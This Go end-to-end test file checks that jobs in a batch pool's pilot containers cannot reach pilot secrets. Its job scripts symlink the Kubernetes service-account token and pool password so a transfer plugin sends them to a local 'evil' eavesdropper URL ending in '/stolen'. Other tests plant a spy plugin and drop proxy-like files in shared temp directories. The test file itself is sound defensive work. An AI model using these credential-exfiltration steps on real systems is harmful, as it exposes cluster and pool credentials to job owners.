//go:build pool

package e2e

import (
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"podstarter/integration/harness"
)

// Programs of the site run for a job in the pilot container, where the pod's and the pool's tokens
// are. The job chooses file names that they get.

// pilotsSecrets are files of the pilot that no job may see, by what they are.
var pilotsSecrets = map[string]string{
	"token":    "/var/run/secrets/kubernetes.io/serviceaccount/token",
	"password": "/etc/podstarter/credentials/pool_password",
}

// secretOf is what stands in a file of the pilot container.
func secretOf(t *testing.T, path string) string {
	t.Helper()
	content, err := pool.EP(t.Context(), side, "cat", path)
	if err != nil {
		t.Fatal(err)
	}
	if content = strings.TrimSpace(content); len(content) < 8 {
		t.Fatalf("%s of the pilot is %q: the test shows nothing", path, content)
	}
	return content
}

// eavesdropper is a web server of a job's owner. It accepts every file and remembers the token
// that came with it.
type eavesdropper struct {
	*httptest.Server
	mu    sync.Mutex
	heard []string
}

func eavesdrop(t *testing.T) *eavesdropper {
	t.Helper()
	e := &eavesdropper{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
		e.mu.Lock()
		e.heard = append(e.heard, r.Header.Get("Authorization")+" with "+string(body))
		e.mu.Unlock()
		w.WriteHeader(http.StatusCreated)
	}))
	t.Cleanup(e.Close)
	return e
}

func (e *eavesdropper) all() string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return strings.Join(e.heard, "; ")
}

// over waits until a job's first run has ended somehow.
func over(t *testing.T, job harness.Job) []harness.Event {
	t.Helper()
	ends := []int{harness.EventTerminated, harness.EventHeld, harness.EventEvicted, harness.EventShadowException}
	events, err := job.WaitEvents(soon(t, patience), "its end", func(events []harness.Event) bool {
		return slices.ContainsFunc(events, func(e harness.Event) bool { return slices.Contains(ends, e.Number) })
	})
	if err != nil {
		t.Fatal(err)
	}
	return events
}

// TestModeTokenByPlugin: a job that has made itself a directory of credentials makes the stock
// curl_plugin send a file there as a token. It must be the job's own file, or none.
func TestModeTokenByPlugin(t *testing.T) {
	oursOnly(t)
	send := func(t *testing.T, make string) string {
		t.Helper()
		e := eavesdrop(t)
		s := script("#!/bin/sh\necho result >result\nmkdir .condor_creds\n"+make+"\n",
			"transfer_output_files = result", `MY.OAuthServicesNeeded = ""`,
			"output_destination = evil+http://"+e.Listener.Addr().String()+"/stolen")
		s.Name = "stolen"
		end := over(t, submit(t, s)[0])
		t.Logf("in mode %s: %s; the server heard %.100q", pool.Mode, harness.Headlines(end), e.all())
		return e.all()
	}
	for what, path := range pilotsSecrets {
		t.Run(what, func(t *testing.T) {
			secret := secretOf(t, path)
			if heard := send(t, "ln -s "+path+" .condor_creds/evil.use"); strings.Contains(heard, secret) {
				t.Errorf("the job's owner was sent the pilot's %s, %s", what, path)
			}
		})
	}
	t.Run("its own", func(t *testing.T) {
		if heard := send(t, "echo mine >.condor_creds/evil.use"); heard != "Bearer mine with result\n" {
			t.Errorf("the server heard %q: the plugin does not do what the test is about", heard)
		}
	})
}

// TestModeHookMeetsLink: a hook that reads a file in the sandbox does not read the pilot's for the
// job.
func TestModeHookMeetsLink(t *testing.T) {
	oursOnly(t)
	reads := siteProgram(t, "reads", "#!/bin/sh\nfor file in token password own; do cat $file; done >seen 2>/dev/null\n")
	configure(t, "E2ELINK_HOOK_JOB_EXIT = "+reads)
	make := "#!/bin/sh\necho own >own\n"
	for what, path := range pilotsSecrets {
		make += "ln -s " + path + " " + what + "\n"
	}
	s := script(make, "transfer_output_files = seen", `+HookKeyword = "E2ELINK"`)
	s.Name = "hook-link"
	job := submit(t, s)[0]
	mustExit(t, job, 0)
	if seen := output(t, job, "seen"); seen != "own\n" {
		t.Errorf("the hook read %.100q for the job", seen)
	}
}

// TestModeSitePlugin: what a plugin of the site can reach while it runs for a job.
func TestModeSitePlugin(t *testing.T) {
	oursOnly(t)
	spy := siteProgram(t, "spy_plugin.sh", "#!/bin/sh\nif [ \"$1\" = -classad ]; then printf 'SupportedMethods = \"e2espy\"\nMultipleFileSupport = true\n'; exit; fi\n"+
		spyLooks+`echo '[ TransferSuccess = true ]' >"$out"`)
	configure(t, "FILETRANSFER_PLUGINS = "+spy)
	s := script("#!/bin/sh\ncat seen\n", "transfer_input_files = e2espy://h/seen")
	s.Name = "site-plugin"
	s.Requirements = "TARGET.HasFileTransferPluginMethods =!= undefined"
	job := submit(t, s)[0]
	mustExit(t, job, 0)
	seen := strings.Split(strings.TrimSpace(output(t, job, "out")), "\n")
	t.Logf("in mode %s: %q", pool.Mode, seen)
	for _, line := range seen {
		// The number of files that another process of the same user has open is not secret; their
		// names are.
		counts := pool.Mode == harness.Rootless && strings.HasPrefix(line, "can list /proc/") && strings.HasSuffix(line, "/fd")
		if strings.HasPrefix(line, "can ") && !counts {
			t.Errorf("a plugin of the site %s for a job", line)
		}
	}
	if !slices.Contains(seen, "has open 0 1 2 3") {
		t.Error("the plugin did not look: the test shows nothing")
	}
}

// leavingPlugin reports what the last run left, and leaves the same.
const leavingPlugin = `#!/bin/sh
if [ "$1" = -classad ]; then echo 'SupportedMethods = "e2eleaving"'; exit; fi
for place in /tmp /var/tmp /dev/shm "${TMPDIR:-/tmp}"; do
	cat "$place/x509up_e2e" 2>/dev/null && echo " in $place"
	umask 0
	echo "$1" 2>/dev/null >"$place/x509up_e2e" && echo tried >&2
done >"$2"
`

// TestModePluginLeavesNoFiles: the next job's plugin, which has the same user, does not find what
// a plugin left in the pilot container.
func TestModePluginLeavesNoFiles(t *testing.T) {
	oursOnly(t)
	configure(t, "FILETRANSFER_PLUGINS = "+siteProgram(t, "leaving_plugin.sh", leavingPlugin))
	for _, run := range []string{"first", "second"} {
		s := script("#!/bin/sh\ncat found\n", "transfer_input_files = e2eleaving://h/found")
		s.Name = "leaving-" + run
		s.Requirements = "TARGET.HasFileTransferPluginMethods =!= undefined"
		job := submit(t, s)[0]
		mustExit(t, job, 0)
		if found := output(t, job, "out"); found != "" {
			t.Errorf("the plugin of the %s job found %q", run, found)
		}
	}
	if err := harness.WaitNone(soon(t, patience), pool.Starters(side)); err != nil {
		t.Fatal(err)
	}
	left, err := pool.EP(t.Context(), side, "sh", "-c", "ls -d /tmp/x509up_e2e /var/tmp/x509up_e2e /dev/shm/x509up_e2e 2>/dev/null; :")
	if err != nil || left != "" {
		t.Errorf("left after both jobs: %q, %v", left, err)
	}
}
